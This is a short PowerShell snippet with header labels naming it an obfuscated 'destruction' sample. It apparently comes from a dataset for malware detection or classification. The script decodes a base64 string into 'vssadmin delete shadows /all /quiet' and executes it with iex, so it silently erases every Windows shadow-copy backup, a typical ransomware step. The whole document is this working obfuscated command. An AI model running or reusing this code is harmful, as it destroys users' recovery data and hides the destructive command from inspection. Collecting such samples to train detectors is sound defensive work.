# description: Decodes a base64 vssadmin delete shadows command with [Convert]::FromBase64String and runs it with iex.
# family: destruction
# obfuscated: yes
$b = 'dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzACAALwBhAGwAbAAgAC8AcQB1AGkAZQB0AA=='
$s = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))
iex $s
